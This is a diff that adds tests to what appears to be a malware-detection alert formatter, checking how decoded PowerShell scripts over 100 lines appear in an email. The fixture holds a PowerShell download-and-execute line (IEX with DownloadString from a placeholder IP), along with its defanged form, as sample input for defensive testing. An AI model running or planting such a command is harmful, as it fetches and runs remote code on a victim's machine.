@@ -206,3 +206,23 @@ describe('the decoded PowerShell blocks', () => {
     expect(section(body({ decodedScript: outside }), SCRIPT_TITLE).at(-1)).toBe('  | [...truncated, 2001 chars in total]');
   });
 });
+
+describe('a decoded script of more than 100 lines', () => {
+  // A stager can push its payload below a screen of blank lines; the detector keeps such a script
+  // whole (it is far under its 1,000-character cap), so only the email's 100-line cap cuts it.
+  const PAYLOAD = "IEX $c.DownloadString('http://198.51.100.23/a.ps1')";
+  const SHOWN = "  | IEX $c.DownloadString('hxxp://198[.]51[.]100[.]23/a.ps1')";
+  const padded = (blank: number): string => `${'\n'.repeat(blank)}${PAYLOAD}`;
+
+  it('shows all 100 lines of a 100-line script, without a notice', () => {
+    expect(section(body({ decodedScript: padded(99) }), SCRIPT_TITLE)).toEqual([...Array<string>(99).fill('  | '), SHOWN]);
+  });
+
+  it('shows the first 100 lines of a 101-line script and says it was cut', () => {
+    const script = padded(100);
+    expect(section(body({ decodedScript: script }), SCRIPT_TITLE)).toEqual([
+      ...Array<string>(100).fill('  | '),
+      `  | [...truncated, ${script.length} chars in total]`,
+    ]);
+  });
+});
